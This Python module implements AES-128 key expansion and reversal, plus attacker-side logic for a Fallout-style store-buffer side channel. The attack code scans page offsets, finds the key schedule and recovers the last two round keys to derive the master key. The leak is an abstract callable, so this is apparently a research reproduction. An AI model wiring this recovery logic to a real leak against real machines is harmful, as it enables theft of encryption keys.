"""AES-128 key-schedule mathematics and the subkey-recovery attacker logic.

``expand_key`` is the forward schedule (also the oracle the AES victim's
store trace is checked against); ``reverse_key_schedule`` walks the
recurrence backwards from the final round key to the master key, using the
round-9 key as a consistency check when available. The scanning/recovery
helpers implement the attacker side against an abstract leak channel: a
callable mapping a page offset to the set of probe slots that hit.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Callable, Iterable

from .errors import ContractViolation, InconsistentSubkeys, RecoveryTimeout

ROUNDS = 10
ROUND_KEY_BYTES = 16
SCHEDULE_BYTES = (ROUNDS + 1) * ROUND_KEY_BYTES  # 176

SBOX = bytes((
    0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b, 0xfe, 0xd7, 0xab, 0x76,
    0xca, 0x82, 0xc9, 0x7d, 0xfa, 0x59, 0x47, 0xf0, 0xad, 0xd4, 0xa2, 0xaf, 0x9c, 0xa4, 0x72, 0xc0,
    0xb7, 0xfd, 0x93, 0x26, 0x36, 0x3f, 0xf7, 0xcc, 0x34, 0xa5, 0xe5, 0xf1, 0x71, 0xd8, 0x31, 0x15,
    0x04, 0xc7, 0x23, 0xc3, 0x18, 0x96, 0x05, 0x9a, 0x07, 0x12, 0x80, 0xe2, 0xeb, 0x27, 0xb2, 0x75,
    0x09, 0x83, 0x2c, 0x1a, 0x1b, 0x6e, 0x5a, 0xa0, 0x52, 0x3b, 0xd6, 0xb3, 0x29, 0xe3, 0x2f, 0x84,
    0x53, 0xd1, 0x00, 0xed, 0x20, 0xfc, 0xb1, 0x5b, 0x6a, 0xcb, 0xbe, 0x39, 0x4a, 0x4c, 0x58, 0xcf,
    0xd0, 0xef, 0xaa, 0xfb, 0x43, 0x4d, 0x33, 0x85, 0x45, 0xf9, 0x02, 0x7f, 0x50, 0x3c, 0x9f, 0xa8,
    0x51, 0xa3, 0x40, 0x8f, 0x92, 0x9d, 0x38, 0xf5, 0xbc, 0xb6, 0xda, 0x21, 0x10, 0xff, 0xf3, 0xd2,
    0xcd, 0x0c, 0x13, 0xec, 0x5f, 0x97, 0x44, 0x17, 0xc4, 0xa7, 0x7e, 0x3d, 0x64, 0x5d, 0x19, 0x73,
    0x60, 0x81, 0x4f, 0xdc, 0x22, 0x2a, 0x90, 0x88, 0x46, 0xee, 0xb8, 0x14, 0xde, 0x5e, 0x0b, 0xdb,
    0xe0, 0x32, 0x3a, 0x0a, 0x49, 0x06, 0x24, 0x5c, 0xc2, 0xd3, 0xac, 0x62, 0x91, 0x95, 0xe4, 0x79,
    0xe7, 0xc8, 0x37, 0x6d, 0x8d, 0xd5, 0x4e, 0xa9, 0x6c, 0x56, 0xf4, 0xea, 0x65, 0x7a, 0xae, 0x08,
    0xba, 0x78, 0x25, 0x2e, 0x1c, 0xa6, 0xb4, 0xc6, 0xe8, 0xdd, 0x74, 0x1f, 0x4b, 0xbd, 0x8b, 0x8a,
    0x70, 0x3e, 0xb5, 0x66, 0x48, 0x03, 0xf6, 0x0e, 0x61, 0x35, 0x57, 0xb9, 0x86, 0xc1, 0x1d, 0x9e,
    0xe1, 0xf8, 0x98, 0x11, 0x69, 0xd9, 0x8e, 0x94, 0x9b, 0x1e, 0x87, 0xe9, 0xce, 0x55, 0x28, 0xdf,
    0x8c, 0xa1, 0x89, 0x0d, 0xbf, 0xe6, 0x42, 0x68, 0x41, 0x99, 0x2d, 0x0f, 0xb0, 0x54, 0xbb, 0x16,
))

RCON = (0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1b, 0x36)


@dataclass(frozen=True)
class RoundKey:
    data: bytes
    round_index: int

    def __post_init__(self):
        if len(self.data) != ROUND_KEY_BYTES:
            raise ContractViolation("round keys are 16 bytes")
        if not 0 <= self.round_index <= ROUNDS:
            raise ContractViolation("round index must lie in [0, 10]")


@dataclass(frozen=True)
class ExpandedKey:
    round_keys: tuple[RoundKey, ...]

    @property
    def data(self) -> bytes:
        return b"".join(rk.data for rk in self.round_keys)

    def round_key(self, index: int) -> RoundKey:
        return self.round_keys[index]


def _g(word: tuple[int, ...], rcon: int) -> tuple[int, ...]:
    # RotWord then SubWord, with the round constant folded into byte 0.
    return (SBOX[word[1]] ^ rcon, SBOX[word[2]], SBOX[word[3]], SBOX[word[0]])


def expand_key(master: bytes) -> ExpandedKey:
    """Standard AES-128 expansion: 44 words, word i = word i-4 xor f(word i-1)."""
    if len(master) != 16:
        raise ContractViolation("AES-128 master key must be 16 bytes")
    words: list[tuple[int, ...]] = [tuple(master[4 * i:4 * i + 4]) for i in range(4)]
    for i in range(4, 44):
        prev = words[i - 1]
        temp = _g(prev, RCON[i // 4 - 1]) if i % 4 == 0 else prev
        words.append(tuple(a ^ b for a, b in zip(words[i - 4], temp)))
    round_keys = tuple(
        RoundKey(bytes(b for w in words[4 * r:4 * r + 4] for b in w), r)
        for r in range(ROUNDS + 1))
    return ExpandedKey(round_keys=round_keys)


def reverse_key_schedule(rk10: RoundKey, rk9: RoundKey | None = None) -> bytes:
    """Invert the recurrence from the final round key back to the master key.

    The final round key alone determines the master key; when the round-9
    key is supplied it serves as a checksum against leak-recovery byte
    errors.
    """
    if rk10.round_index != ROUNDS:
        raise ContractViolation("reversal starts from the round-10 key")
    words: list[tuple[int, ...]] = [None] * 44  # type: ignore[list-item]
    for j in range(4):
        words[40 + j] = tuple(rk10.data[4 * j:4 * j + 4])
    # Descending i always sees words[i] and words[i-1] already filled:
    # words[i-1] was produced four iterations earlier (at i+3).
    for i in range(43, 3, -1):
        prev = words[i - 1]
        temp = _g(prev, RCON[i // 4 - 1]) if i % 4 == 0 else prev
        words[i - 4] = tuple(a ^ b for a, b in zip(words[i], temp))
    master = bytes(b for w in words[:4] for b in w)
    if rk9 is not None:
        if rk9.round_index != ROUNDS - 1:
            raise ContractViolation("checksum key must be the round-9 key")
        derived_rk9 = bytes(b for w in words[36:40] for b in w)
        if derived_rk9 != rk9.data:
            raise InconsistentSubkeys(
                "round-9 key does not match the schedule of the recovered round-10 key")
    return master


# ---------------------------------------------------------------------------
# Attacker logic against an abstract leak channel. ``leak_fn(offset)`` runs
# one Fallout trial with the faulting load at that page offset and returns
# the probe slots that hit.
# ---------------------------------------------------------------------------

LeakFn = Callable[[int], set[int]]

SCAN_STRIDE = 128
# The schedule spans 176 > 128 bytes, so a 128-stride scan always lands in
# it; the anchor shifts the lattice so a scanned offset also falls in the
# buffer-resident tail of the schedule (only the last rounds are still
# buffered when the faulty load runs - which is why rounds 9-10 are what the
# attack recovers).
SCAN_ANCHOR = 32
DEFAULT_SCAN_TRIALS = 5
ALIVE_TRIALS = 5


def scan_offsets(stride: int = SCAN_STRIDE, anchor: int = SCAN_ANCHOR) -> list[int]:
    return list(range(anchor, 4096, stride))


def scan_context_offset(leak_fn: LeakFn, stride: int = SCAN_STRIDE,
                        anchor: int = SCAN_ANCHOR,
                        trials_per_offset: int = DEFAULT_SCAN_TRIALS) -> dict[int, int]:
    """Histogram of decoded-hit counts per scanned page offset."""
    histogram: dict[int, int] = {}
    for offset in scan_offsets(stride, anchor):
        count = 0
        for _ in range(trials_per_offset):
            count += len(leak_fn(offset))
        histogram[offset] = count
    return histogram


def histogram_argmax(histogram: dict[int, int]) -> int | None:
    """Offset with the most hits; None when nothing leaked at all."""
    best_offset, best_count = None, 0
    for offset in sorted(histogram):
        if histogram[offset] > best_count:
            best_offset, best_count = offset, histogram[offset]
    return best_offset


def _majority_slot(observations: Iterable[set[int]]) -> int | None:
    votes: Counter = Counter()
    for hits in observations:
        votes.update(hits)
    if not votes:
        return None
    # Highest count wins; ties break on the smaller slot for determinism.
    return min(votes, key=lambda slot: (-votes[slot], slot))


def _offset_alive(leak_fn: LeakFn, offset: int, trials: int = ALIVE_TRIALS) -> bool:
    """A live offset repeats the same slot; random channel noise does not."""
    votes: Counter = Counter()
    for _ in range(trials):
        votes.update(leak_fn(offset))
    return bool(votes) and max(votes.values()) > trials // 2


def locate_schedule_end(leak_fn: LeakFn, hit_offset: int,
                        trials: int = ALIVE_TRIALS) -> int:
    """Walk upward from a leaking offset to the last offset the victim stores.

    Offsets past the end of the expanded key have no matching store and go
    quiet, so the top of the live span is the schedule's final byte.
    """
    offset = hit_offset
    while offset + 1 < 4096 and _offset_alive(leak_fn, offset + 1, trials):
        offset += 1
    return offset


def recover_byte(leak_fn: LeakFn, offset: int, trials_per_byte: int = 1) -> int:
    observations = [leak_fn(offset) for _ in range(trials_per_byte)]
    slot = _majority_slot(observations)
    if slot is None:
        raise RecoveryTimeout(f"no hits at page offset {offset:#x} "
                              f"after {trials_per_byte} trials")
    return slot


def recover_subkeys(leak_fn: LeakFn, base_offset: int,
                    trials_per_byte: int = 1) -> tuple[RoundKey, RoundKey]:
    """Leak the 32 bytes of rounds 9-10 relative to the context base offset."""
    leaked = bytes(
        recover_byte(leak_fn, base_offset + 144 + i, trials_per_byte)
        for i in range(32))
    rk9 = RoundKey(leaked[:16], ROUNDS - 1)
    rk10 = RoundKey(leaked[16:], ROUNDS)
    return rk9, rk10
